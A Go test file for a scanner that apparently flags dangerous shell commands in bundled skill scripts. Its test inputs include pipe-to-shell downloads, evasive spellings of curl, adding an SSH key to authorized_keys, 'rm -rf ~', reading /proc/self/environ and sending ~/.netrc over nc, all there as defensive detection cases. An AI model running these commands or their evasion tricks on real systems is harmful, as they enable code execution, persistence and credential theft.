package safety

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/loadout/loadout/skill"
)

// TestMayMatter: the gate in front of the parse lets through every way of
// writing a command the rules look at, and skips ordinary scripts.
func TestMayMatter(t *testing.T) {
	for _, code := range []string{
		"curl x | sh", "c''url x", `"cu"rl x`, `\c\u\r\l x`, `$'\x63url' x`, "a=cu; b=rl; $a$b x", "${a}rl x", `$a"rl" x`,
		`${a}"rl" x`, "x | $SHELL", "x | ${SHELL}", "x | $0", "x | /???/b?sh", "x | /usr/*/bash", `printf '\143'`, ". ./env.sh",
		"echo x >> ~/.bashrc", "cat k.pub >> ~/.ssh/authorized_keys", "r''m -rf ~", "CURL x | SH", "eval $x", "source x",
		"cp a ~/.zshrc", "crontab -", "cat /proc/self/environ", "nc h 1 < ~/.netrc",
		"echo x | python3", "bash -c \"$x\"", "x | perl -e 1", "bash <<< \"$x\"", "node -e x", "bash <(x)", "sh `x`",
	} {
		if !mayMatter(code) {
			t.Errorf("%q skipped", code)
		}
	}
	for _, code := range []string{
		"#!/usr/bin/env bash\nset -euo pipefail\nhere=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\necho \"$here/x\"\nfor s in 1 2; do echo \"step $s\"; done\n",
		"npm install\nnpm test -- --watch=false\n",
		"go build ./...\ngo test ./...\n",
		"docker compose up -d\nkubectl get pods -n default\n",
		"if [ $? -ne 0 ]; then exit 1; fi\n",
		"bash scripts/run.sh --input ./in --output ./out\n",
		"python3 scripts/fill.py in.pdf out.pdf\n",
	} {
		if mayMatter(code) {
			t.Errorf("%q parsed", code)
		}
	}
}

// TestShellExpansionBounded: a value doubled on every line, or very many
// variables, do not make the static expansion grow without bound.
func TestShellExpansionBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("a=curlx\n")
	for range 60 {
		b.WriteString("a=$a$a\n")
	}
	for i := range 5000 {
		fmt.Fprintf(&b, "v%d=x%d\n", i, i)
	}
	b.WriteString("$a | sh\nc=curl\n$c x | sh\n")
	start := time.Now()
	ds := Check(Input{Name: "x", Content: []byte("---\nname: x\ndescription: d\n---\nSee scripts/x.sh.\n"),
		Files: []skill.BundleFile{{Path: "scripts/x.sh", Data: []byte(b.String())}}}, nil)
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("took %v", d)
	}
	// c, set after thousands of other variables, is still known.
	found := false
	for _, d := range ds {
		found = found || d.Code == CodeScriptPipeShell
	}
	if !found {
		t.Errorf("padding with variables hid $c | sh: %v", ds)
	}
}

// TestMayMatterEdges: each way the gate says yes, with the near miss that
// must stay a no, and inputs ending at every character the gate looks
// past (no reads beyond the end).
func TestMayMatterEdges(t *testing.T) {
	for _, code := range []string{
		"#!/bin/sh\ncurl x | sh",
		// An expansion joined to a quoted part inside "$(…)", whose
		// quotes are its own; after it, the outer "…" resumes.
		`x="$(printf %s $a'rl')"`,
		`echo "$(date)" $a'rl'`,
		`echo "$(f (x))" $a'rl'`,
		`echo "$(f (x) $a'rl')"`,
		`echo '"' $a"rl"`,
		`echo $'a b'`,
		`$_"rl" x`, `$a0"rl" x`, `$a9"rl" x`, `$z"rl" x`, `$A"rl" x`, `$Z"rl" x`, `${a}"rl" x`,
		// Characters written as escapes.
		`printf '\x63'`, `printf '\u0063'`, `printf '\U00000063'`, `printf '\060'`, `printf '\7'`,
		// The dot command after each separator.
		". ./a", "x . ./a", "x\n. ./a", "x;. ./a", "x&&. ./a", "x||. ./a", "(. ./a)", "x\t. ./a", ". \t./a", ".\t./a",
		"x$a", "${a}$b", "echo $0",
	} {
		if !mayMatter(code) {
			t.Errorf("%q skipped", code)
		}
	}
	for _, code := range []string{
		"#!/bin/bash",
		"echo 'hello world'",
		`echo "hello"`,
		"echo $HOME",
		"echo ${HOME}",
		"echo a\\ b",
		"echo a\\8 b\\9",
		"echo a. b",
		"ls .config",
		"cd .",
		"echo x\\",
		"echo $",
		"(make all)",
		"npm test | tee log",
		"my-curl-tool x",
		"curl\x80 x",
		"if [ -f x ]; then make; fi",
	} {
		if mayMatter(code) {
			t.Errorf("%q parsed", code)
		}
	}
}
